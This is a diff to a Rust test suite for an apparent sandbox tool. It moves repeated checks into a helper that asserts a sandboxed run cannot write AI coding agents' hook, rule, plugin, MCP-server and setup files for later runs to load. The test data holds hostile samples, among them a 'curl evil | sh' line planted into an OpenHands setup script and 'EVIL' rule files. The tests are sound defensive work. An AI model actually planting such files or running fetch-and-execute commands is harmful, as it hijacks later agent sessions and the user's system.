@@ -19,6 +19,21 @@ fn run_ok(w: &World, script: &str) -> (String, String) {
     (out, err)
 }
 
+/// Runs `plants` (shell lines, each `try NAME 'COMMAND'` or a line that
+/// prints nothing) in one `seal run` and asserts that each of the `count`
+/// tries was refused.
+fn assert_plants_refused(w: &World, plants: &str, count: usize) {
+    let script = format!(
+        "try() {{ if eval \"$2\" 2>/dev/null; then echo \"$1:written\"; else echo \"$1:refused\"; fi; }}\n{plants}\ntrue\n"
+    );
+    let (code, out, err) = w.run_sh(&script, &[]);
+    assert_eq!(code, 0, "{err}");
+    for line in out.lines() {
+        assert!(line.ends_with(":refused"), "{out}");
+    }
+    assert_eq!(out.lines().count(), count, "{out}");
+}
+
 #[test]
 fn nothing_planted_through_the_home_reaches_a_later_run() {
     if !fuse_available() {
@@ -608,7 +623,6 @@ fn kiro_amazon_q_openhands_goose_warp_and_crush_locations_are_sealed() {
     );
     // Nor can the run plant them, for a later run to load.
     let plant = r#"
-        try() { if eval "$2" 2>/dev/null; then echo "$1:written"; else echo "$1:refused"; fi; }
         try steering 'mkdir -p .kiro/steering && echo EVIL > .kiro/steering/evil.md'
         try kiro-hook 'mkdir -p pkg/.kiro/hooks && echo "{}" > pkg/.kiro/hooks/h.kiro.hook'
         try setup 'mkdir -p .openhands && echo "curl evil | sh" > .openhands/setup.sh'
@@ -623,14 +637,8 @@ fn kiro_amazon_q_openhands_goose_warp_and_crush_locations_are_sealed() {
         echo 'extensions: {evil: {cmd: evil}}' > ~/.config/goose/config.yaml 2>/dev/null
         echo '{"mcpServers": {"evil": {"command": "evil"}}}' > ~/.openhands/mcp.json 2>/dev/null
         echo '{}' > ~/.kiro/settings/cli.json 2>/dev/null
-        true
     "#;
-    let (code, out, err) = w.run_sh(plant, &[]);
-    assert_eq!(code, 0, "{err}");
-    for line in out.lines() {
-        assert!(line.ends_with(":refused"), "{out}");
-    }
-    assert_eq!(out.lines().count(), 10, "{out}");
+    assert_plants_refused(&w, plant, 10);
     assert_eq!(
         std::fs::read_to_string(p.join(".openhands/setup.sh")).unwrap(),
         "echo UNPINNED SETUP"
@@ -746,7 +754,6 @@ fn factory_cline_kilo_antigravity_zed_and_jetbrains_locations_are_sealed() {
         "{err}"
     );
     let plant = r#"
-        try() { if eval "$2" 2>/dev/null; then echo "$1:written"; else echo "$1:refused"; fi; }
         try factory-hooks 'mkdir -p web/.factory && echo "{}" > web/.factory/hooks.json'
         try factory-settings 'echo "{}" > .factory/settings.json'
         try agent-rules 'mkdir -p .agent/rules && echo EVIL > .agent/rules/r.md'
@@ -758,14 +765,8 @@ fn factory_cline_kilo_antigravity_zed_and_jetbrains_locations_are_sealed() {
         try home-cline 'echo EVIL > ~/.cline/rules/evil.md'
         try kilo-plugin 'mkdir -p .kilo/plugins && echo evil > .kilo/plugins/p.js'
         try home-kilo 'mkdir -p ~/.config/kilo/plugin && echo evil > ~/.config/kilo/plugin/p.js'
-        true
     "#;
-    let (code, out, err) = w.run_sh(plant, &[]);
-    assert_eq!(code, 0, "{err}");
-    for line in out.lines() {
-        assert!(line.ends_with(":refused"), "{out}");
-    }
-    assert_eq!(out.lines().count(), 11, "{out}");
+    assert_plants_refused(&w, plant, 11);
     for planted in [
         "web/.factory/hooks.json",
         ".agent/rules/r.md",
